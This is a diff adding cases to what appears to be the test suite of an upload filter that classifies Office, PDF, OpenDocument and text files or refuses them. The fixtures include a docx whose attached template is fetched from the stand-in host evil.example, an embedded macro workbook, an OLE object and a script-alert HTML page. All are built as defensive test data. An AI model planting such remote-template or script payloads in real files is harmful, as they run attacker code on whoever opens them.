@@ -32,6 +32,10 @@ describe('a file that is taken', () => {
     expect(await told(pdf(1, { packed: ['<</A 1>>'] }))).toBe('pdf');
   });
 
+  test('a document with a chart’s workbook in it, and a template of its writer’s machine', async () => {
+    expect(await told(office('docx', { parts: { 'word/embeddings/Sheet1.xlsx': 'x', 'word/_rels/settings.xml.rels': template('file:///C:\\Users\\a\\Normal.dotx') } }))).toBe('docx');
+  });
+
   test('a workbook as a library writes it', async () => {
     const book = new exceljs.Workbook();
     book.addWorksheet('a').addRow(['x', 1]);
@@ -43,6 +47,8 @@ describe('a file that is taken', () => {
     ['a.txt', 'if a < b and b > c then <br> maybe', 'txt'], ['a', '海关'.repeat(40_000), 'txt'], ['note.md', '# Heading\n\n- a\n', 'txt'],
   ])('text: %s', async (name, content, kind) => expect(await told(content, name)).toBe(kind));
 });
+
+const template = (target: string): string => `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;
 
 describe('a file that is refused', () => {
   const page = '<!doctype html><html><script>alert(1)</script></html>';
@@ -77,6 +83,9 @@ describe('a file that is refused', () => {
     ['a protected PDF', pdf(1, { trailer: '/Encrypt 900 0 R' }), 'locked'],
     ['a document with macros', office('docx', { parts: { 'word/vbaProject.bin': 'x' } }), 'macros'],
     ['macros by another name', office('docx', { parts: { 'word/pictures.bin': 'x' }, types: '<Override PartName="/word/pictures.bin" ContentType="application/vnd.ms-office.vbaProject"/>' }), 'macros'],
+    ['a document with a workbook for macros in it', office('docx', { parts: { 'word/embeddings/Sheet1.xlsm': 'x' } }), 'macros'],
+    ['a document with a file to click on', office('docx', { parts: { 'word/embeddings/oleObject1.bin': 'x' } }), 'attachments'],
+    ['a document that fetches its template', office('docx', { parts: { 'word/_rels/settings.xml.rels': template('https://evil.example/a.dotm') } }), 'active'],
     ['a document made for macros', zip({ '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>', 'word/document.xml': '<a/>' }), 'macros'],
     ['OpenDocument with macros', openDocument('text', { 'Basic/Standard/Module1.xml': '<a/>' }), 'macros'],
     ['OpenDocument with a password', openDocument('text', { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }), 'locked'],
